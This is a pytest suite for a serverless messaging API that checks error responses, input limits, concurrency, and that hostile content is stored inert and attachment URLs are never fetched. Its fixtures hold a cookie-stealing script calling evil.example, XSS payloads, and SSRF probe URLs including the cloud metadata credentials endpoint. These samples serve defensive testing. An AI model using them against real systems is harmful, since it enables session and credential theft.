"""One JSON error shape on every path a handler can answer with, the input limits at their boundaries,
and the promises about content: HTML stored as received, attachment URLs never fetched."""

import base64
import socket
import urllib.request

import pytest
from pg8000.exceptions import DatabaseError
from sqlalchemy.exc import DBAPIError

from tests.conftest import response_json, sample_body, sample_event

SMS = sample_body("inbound_sms-sms")
EMAIL = sample_body("inbound_email-email")


def assert_error(response, status, code, field=None):
    assert response["statusCode"] == status, response
    assert response["headers"]["Content-Type"] == "application/json"
    document = response_json(response)
    assert set(document) == {"error"}
    assert set(document["error"]) == {"code", "message", "field"}
    assert document["error"]["code"] == code
    assert document["error"]["message"]
    assert document["error"]["field"] == field
    return document["error"]


def rerouted(name, method, path):
    event = sample_event(name)
    event["rawPath"] = event["requestContext"]["http"]["path"] = path
    event["requestContext"]["http"]["method"] = method
    event["routeKey"] = event["requestContext"]["routeKey"] = f"{method} {path}"
    return event


@pytest.mark.parametrize(
    ("function", "event_name"),
    [
        ("InboundSmsFunction", "inbound_sms-sms"),
        ("InboundEmailFunction", "inbound_email-email"),
        ("ConversationsFunction", "conversations-list"),
    ],
)
def test_a_path_the_function_does_not_serve_is_404_in_the_error_shape(invoke, db, function, event_name):
    assert_error(invoke(function, rerouted(event_name, "GET", "/api/unknown")), 404, "not_found")


@pytest.mark.parametrize(
    ("function", "event_name", "method", "path", "allowed"),
    [
        ("InboundSmsFunction", "inbound_sms-sms", "GET", "/api/webhooks/sms", "POST"),
        ("InboundEmailFunction", "inbound_email-email", "DELETE", "/api/webhooks/email", "POST"),
        ("ConversationsFunction", "conversations-list", "POST", "/api/conversations", "GET"),
        ("ConversationsFunction", "conversations-messages", "PUT", "/api/conversations/1/messages", "GET"),
    ],
)
def test_a_method_the_path_does_not_have_is_405_with_allow(invoke, db, function, event_name, method, path, allowed):
    response = invoke(function, rerouted(event_name, method, path))
    assert_error(response, 405, "method_not_allowed")
    assert response["headers"]["Allow"] == allowed


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"from": None}, "from"),
        ({"to": "not a number"}, "to"),
        ({"type": "fax"}, "type"),
        ({"timestamp": "next tuesday"}, "timestamp"),
        ({"messaging_provider_id": ""}, "messaging_provider_id"),
    ],
)
def test_validation_errors_name_the_field(invoke, db, changes, field):
    response = invoke("InboundSmsFunction", sample_event("inbound_sms-sms", {**SMS, **changes}))
    assert_error(response, 422, "invalid_input", field)
    assert db.scalar("SELECT count(*) FROM messages") == 0


@pytest.mark.parametrize(
    ("changes", "status", "code", "field"),
    [
        ({"body": "{", "headers": {"content-type": "application/json"}}, 400, "malformed_request", "body"),
        ({"body": "[]", "headers": {"content-type": "application/json"}}, 400, "malformed_request", "body"),
        (
            {"body": base64.b64encode('{"a": 1}'.encode("utf-16")).decode(), "isBase64Encoded": True},
            400,
            "malformed_request",
            "body",
        ),
        ({"body": "!!", "isBase64Encoded": True, "headers": {"content-type": "application/json"}}, 400, None, "body"),
        ({"headers": {"content-type": "text/plain"}}, 415, "unsupported_media_type", "Content-Type"),
        ({"headers": {}}, 415, "unsupported_media_type", "Content-Type"),
        (
            {"body": "{}" + " " * 300_000, "headers": {"content-type": "application/json"}},
            413,
            "payload_too_large",
            "body",
        ),
    ],
)
def test_envelope_errors_use_the_error_shape(invoke, db, changes, status, code, field):
    error = response_json(invoke("InboundSmsFunction", sample_event("inbound_sms-sms", **changes)))["error"]
    assert set(error) == {"code", "message", "field"}
    response = invoke("InboundSmsFunction", sample_event("inbound_sms-sms", **changes))
    assert response["statusCode"] == status
    assert error["field"] == field
    if code:
        assert error["code"] == code


def test_an_unknown_id_is_404_in_the_error_shape(invoke, db):
    assert_error(invoke("ConversationsFunction", sample_event("conversations-message")), 404, "not_found", "id")


def _driver_error(sqlstate: str) -> DBAPIError:
    """What pg8000 raises for an error the server reported: its first argument is the server's error fields."""
    return DBAPIError("INSERT ...", {}, DatabaseError({"S": "ERROR", "C": sqlstate, "M": "simulated"}))


@pytest.mark.parametrize(
    "sqlstate",
    ["40001", "40P01", "53300", "57014", "57P01", "57P03", "08006", "55P03", "25006", "28P01", "3D000"],
)
def test_database_unavailability_of_any_kind_is_503(invoke, db, monkeypatch, sqlstate):
    from messaging.db import repository

    def unavailable(*_arguments, **_keywords):
        raise _driver_error(sqlstate)

    monkeypatch.setattr(repository, "store_message", unavailable)
    response = invoke("InboundSmsFunction", sample_event("inbound_sms-sms"))
    assert_error(response, 503, "service_unavailable")
    assert response["headers"]["Retry-After"]


@pytest.mark.parametrize("error", [TimeoutError("timed out"), ConnectionResetError("reset by peer")])
def test_an_unwrapped_network_error_is_503(invoke, db, monkeypatch, error):
    from messaging.db import repository

    def unavailable(*_arguments, **_keywords):
        raise error

    monkeypatch.setattr(repository, "list_conversations", unavailable)
    assert_error(invoke("ConversationsFunction", sample_event("conversations-list")), 503, "service_unavailable")


@pytest.mark.parametrize("sqlstate", ["23505", "42P01", "22P02"])
def test_a_database_error_that_is_a_defect_is_not_disguised_as_503(invoke, db, monkeypatch, sqlstate):
    """A constraint violation or a missing table is a bug: it propagates, so Lambda counts an error."""
    from messaging.db import repository

    def defect(*_arguments, **_keywords):
        raise _driver_error(sqlstate)

    monkeypatch.setattr(repository, "store_message", defect)
    with pytest.raises(DBAPIError):
        invoke("InboundSmsFunction", sample_event("inbound_sms-sms"))


# Limits at their boundaries: the last accepted value and the first refused one.


@pytest.mark.parametrize(
    ("changes", "accepted"),
    [
        ({"body": "x" * 1600}, True),
        ({"body": "x" * 1601}, False),
        ({"type": "mms", "attachments": [f"https://e.com/{index}" for index in range(10)]}, True),
        ({"type": "mms", "attachments": [f"https://e.com/{index}" for index in range(11)]}, False),
        ({"type": "mms", "attachments": ["https://e.com/" + "a" * (2048 - 14)]}, True),
        ({"type": "mms", "attachments": ["https://e.com/" + "a" * (2049 - 14)]}, False),
        ({"messaging_provider_id": "p" * 255}, True),
        ({"messaging_provider_id": "p" * 256}, False),
        ({"unknown_provider_field": {"nested": [1, 2]}}, True),
    ],
)
def test_sms_limits(invoke, db, changes, accepted):
    response = invoke("InboundSmsFunction", sample_event("inbound_sms-sms", {**SMS, **changes}))
    assert response["statusCode"] == (200 if accepted else 422), response["body"][:300]
    assert db.scalar("SELECT count(*) FROM messages") == (1 if accepted else 0)


@pytest.mark.parametrize(("length", "accepted"), [(200_000, True), (200_001, False)])
def test_email_body_limit(invoke, db, length, accepted):
    response = invoke("InboundEmailFunction", sample_event("inbound_email-email", {**EMAIL, "body": "x" * length}))
    assert response["statusCode"] == (200 if accepted else 422)


def test_a_send_request_with_an_unknown_field_is_refused_by_name(invoke, db):
    body = {**sample_body("send_message-sms"), "priority": "urgent"}
    response = invoke("SendMessageFunction", sample_event("send_message-sms", body))
    assert "priority" in assert_error(response, 422, "invalid_input", "priority")["message"]
    assert db.scalar("SELECT count(*) FROM messages") == 0


HOSTILE_HTML = (
    "<html><head><script>fetch('https://evil.example/'+document.cookie)</script></head>\r\n"
    '<body onload="alert(1)"><img src="https://tracker.example/pixel.gif?u=1">'
    "<iframe src=\"javascript:alert('x')\"></iframe>&lt;&amp;&gt; \u00e9\u4e2d\U0001f600\t \u200b</body></html>"
)


def test_html_email_bodies_are_stored_and_returned_exactly_as_received(invoke, db):
    stored = response_json(
        invoke("InboundEmailFunction", sample_event("inbound_email-email", {**EMAIL, "body": HOSTILE_HTML}))
    )
    assert db.scalar("SELECT body FROM messages") == HOSTILE_HTML
    event = sample_event("conversations-message")
    event["rawPath"] = event["requestContext"]["http"]["path"] = f"/api/messages/{stored['id']}"
    event["pathParameters"] = {"message_id": str(stored["id"])}
    response = invoke("ConversationsFunction", event)
    assert response["headers"]["Content-Type"] == "application/json"  # never served as text/html
    assert response_json(response)["body"] == HOSTILE_HTML


@pytest.fixture
def outbound_network_forbidden(monkeypatch, database_url):
    """Fail and record any connection or name lookup other than the database's."""
    from urllib.parse import urlsplit

    database = urlsplit(database_url)
    allowed = {(database.hostname, database.port or 5432)}
    attempts: list[object] = []
    original_connect = socket.socket.connect

    def connect(self, address):
        if self.family == socket.AF_UNIX or tuple(address[:2]) in allowed:
            return original_connect(self, address)
        attempts.append(address)
        raise ConnectionRefusedError(f"outbound connection to {address} during a test that forbids it")

    def getaddrinfo(host, *_arguments, **_keywords):
        attempts.append(host)
        raise socket.gaierror(f"name lookup of {host} during a test that forbids it")

    def urlopen(url, *_arguments, **_keywords):
        attempts.append(url)
        raise AssertionError(f"urlopen({url}) during a test that forbids it")

    from messaging.db import engine

    with engine.transaction() as connection:  # the pool holds a live connection before the network closes
        connection.exec_driver_sql("SELECT 1")
    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    monkeypatch.setattr(urllib.request, "urlopen", urlopen)
    return attempts


def test_attachment_urls_are_never_fetched_or_even_resolved(invoke, db, outbound_network_forbidden):
    urls = [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "https://attacker.example/exfiltrate.png",
        "http://127.0.0.1:9/never",
    ]
    email = invoke("InboundEmailFunction", sample_event("inbound_email-email", {**EMAIL, "attachments": urls}))
    mms = invoke("InboundSmsFunction", sample_event("inbound_sms-sms", {**SMS, "type": "mms", "attachments": urls}))
    assert (email["statusCode"], mms["statusCode"]) == (200, 200)
    assert outbound_network_forbidden == []
    assert db.rows("SELECT attachments FROM messages ORDER BY id") == [{"attachments": urls}, {"attachments": urls}]


def test_concurrent_requests_never_read_each_others_event(concurrent_invoke, db):
    """Powertools keeps the current event on a class shared by the whole process: concurrent requests are
    answered each from its own body because each execution environment serves one at a time."""
    from concurrent.futures import ThreadPoolExecutor

    def receive(index):
        body = {**SMS, "messaging_provider_id": f"isolated-{index}", "body": f"message {index}"}
        return index, response_json(concurrent_invoke("InboundSmsFunction", sample_event("inbound_sms-sms", body)))

    with ThreadPoolExecutor(max_workers=40) as pool:
        results = list(pool.map(receive, range(200)))
    assert not [document for _, document in results if document.get("duplicate") is not False]
    stored = {
        row["provider_message_id"]: row["body"] for row in db.rows("SELECT provider_message_id, body FROM messages")
    }
    assert stored == {f"isolated-{index}": f"message {index}" for index in range(200)}
    assert {document["id"] for _, document in results} == set(range(1, 201))
